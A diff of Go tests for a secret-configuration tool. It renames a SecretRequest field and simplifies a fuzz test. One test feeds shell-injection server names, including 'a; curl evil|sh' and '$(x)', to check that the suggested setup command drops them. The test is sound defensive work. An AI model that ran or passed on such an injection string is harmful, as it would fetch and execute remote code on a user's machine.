@@ -67,7 +67,7 @@ func TestSecretOfAServer(t *testing.T) {
 	c := s.load()
 	wantNothing(t, c)
 	wantText(t, c.Servers["github"].Problem.Error(), "secret GITHUB_TOKEN is not set (env.TOKEN)", "toolscript secret set GITHUB_TOKEN --for github")
-	want := []config.SecretRequest{{Secret: "GITHUB_TOKEN", Server: "github", Fields: []string{"env.TOKEN"}, Missing: true}}
+	want := []config.SecretRequest{{Name: "GITHUB_TOKEN", Server: "github", Fields: []string{"env.TOKEN"}, Missing: true}}
 	c.Waiting[0].Identity = config.Identity{}
 	if diff := cmp.Diff(want, c.Waiting); diff != "" {
 		t.Error(diff)
@@ -218,17 +218,14 @@ func FuzzSecretReferences(f *testing.F) {
 		s := newScene(t)
 		s.env["V"] = "$"
 		s.write(s.home, string(file))
-		o := s.options
-		o.Identify = true
-		c, err := config.Load(o)
-		if err != nil {
+		if _, err := config.Load(s.options); err != nil {
 			if !strings.Contains(err.Error(), "mcpServers.s.env.A: ") || !strings.Contains(text, "${secret:") {
 				t.Errorf("%q: %v", text, err)
 			}
 			return
 		}
 		s.store("KEY", "s")
-		c = s.load()
+		c := s.load()
 		server := c.Servers["s"]
 		has := strings.Contains(server.Env["A"], secretValue)
 		if has != (server.Problem == nil && strings.Contains(text, "${secret:KEY}")) {
@@ -281,7 +278,7 @@ func TestSecretIsAValue(t *testing.T) {
 // as more.
 func TestCommandsAreCopied(t *testing.T) {
 	for name, want := range map[string]string{"git-hub.2": "toolscript secret set KEY --for git-hub.2", "a; curl evil|sh": "toolscript secret set KEY", "$(x)": "toolscript secret set KEY", "-x": "toolscript secret set KEY"} {
-		if got := (config.SecretRequest{Secret: "KEY", Server: name}).Command(); got != want {
+		if got := (config.SecretRequest{Name: "KEY", Server: name}).Command(); got != want {
 			t.Errorf("%q: %q, want %q", name, got, want)
 		}
 	}
